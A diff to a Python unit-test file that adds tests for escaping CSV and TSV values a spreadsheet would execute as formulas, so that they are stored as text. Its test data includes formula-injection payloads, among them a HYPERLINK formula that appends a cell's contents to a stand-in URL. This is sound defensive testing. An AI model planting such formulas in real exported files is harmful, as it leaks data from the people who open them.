@@ -4,9 +4,11 @@ import json
 
 import orjson
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from dropbatch.formats.kinds import file_type
-from dropbatch.formats.writing import answers_extension, answers_head, failed_head
+from dropbatch.formats.writing import answers_extension, answers_head, failed_head, row_writer
 from tests.unit.formats.reading_drops import answered, drop, rows
 
 NAMES = ("answer", "_status", "_error")
@@ -34,7 +36,7 @@ def test_a_csv_keeps_its_bytes_and_gets_columns() -> None:
         (None, b""),
         ("text", b"text"),
         ("", b""),
-        ("=1+1", b"=1+1"),
+        ("=1+1", b"'=1+1"),
         (True, b"true"),
         (1.5, b"1.5"),
         (10**40, str(10**40).encode()),
@@ -114,3 +116,54 @@ def test_the_answers_extension_is_the_drop_s_but_for_a_text() -> None:
 
 def test_the_failed_file_starts_as_the_drop_did() -> None:
     assert failed_head(drop("r.csv", b"\xef\xbb\xbfa,b\r\n1,2\r\n").layout) == b"\xef\xbb\xbfa,b\r\n"
+
+
+FORMULAS = ['=HYPERLINK("http://x"&A1)', "+1+1", "-1+1", "- a list", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+-1", "-1e"]
+NUMBERS = ["-3.5", "+3", "-.5", "-1e10", "+1.E-3"]
+
+
+@pytest.mark.parametrize("name", ["r.csv", "r.tsv", "r.txt"])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_that_a_spreadsheet_would_run_is_told_to_be_a_text(name: str, text: str) -> None:
+    written = list(csv.reader(io.StringIO(answers(name, b"a\n1\n", text).decode(), newline=""), delimiter=_sign(name)))
+    assert written[-1] == ["1", "'" + text, "ok", ""]
+
+
+@pytest.mark.parametrize("text", [*NUMBERS, "", "a=1", " =1", "1-1", "'=1"])
+def test_a_plain_number_and_any_other_text_stay(text: str) -> None:
+    assert answers("r.csv", b"a\n1\n", text).endswith(f"1,{text},ok,\n".encode())
+
+
+@pytest.mark.parametrize("value", [-3.5, -1, orjson.Fragment(b"-1.10"), True, None])
+def test_numbers_stay_numbers(value: object) -> None:
+    assert b"'" not in answers("r.csv", b"a\n1\n", value)
+
+
+def test_what_was_dropped_is_never_changed() -> None:
+    assert answers("r.csv", b"=a,b\n=1,-x\n", "x") == b"=a,b,answer,_status,_error\n=1,-x,x,ok,\n"
+    assert answers("r.txt", b"=1\n", "x").endswith(b"=1,x,ok,\n")
+
+
+@pytest.mark.parametrize("name", ["r.jsonl"])
+def test_no_other_format_has_formulas(name: str) -> None:
+    assert json.loads(answers(name, b'{"a":1}\n', "=1+1"))["answer"] == "=1+1"
+
+
+def test_formulas_are_kept_where_the_recipe_says_so() -> None:
+    layout = drop("r.csv", b"a\n1\n").layout
+    writer = row_writer(layout, NAMES, keeps_formulas=True)
+    assert writer.columns([["=1+1", "ok", None]]) == [",=1+1,ok,"]
+
+
+def _sign(name: str) -> str:
+    return "\t" if name.endswith("tsv") else ","
+
+
+ANY = st.sampled_from([*FORMULAS, *NUMBERS, "plain", "", "a,b", 'a"b', "é\n"]) | st.text(max_size=3)
+
+
+@given(st.lists(st.tuples(ANY | st.none() | st.integers() | st.floats(), ANY), min_size=1, max_size=6))
+def test_many_rows_are_written_as_each_is(rows: list[tuple[object, str]]) -> None:
+    for name in ("r.csv", "r.tsv"):
+        writer = row_writer(drop(name, b"a\n1\n").layout, NAMES)
+        assert list(writer.columns(rows)) == [writer.columns([row])[0] for row in rows]
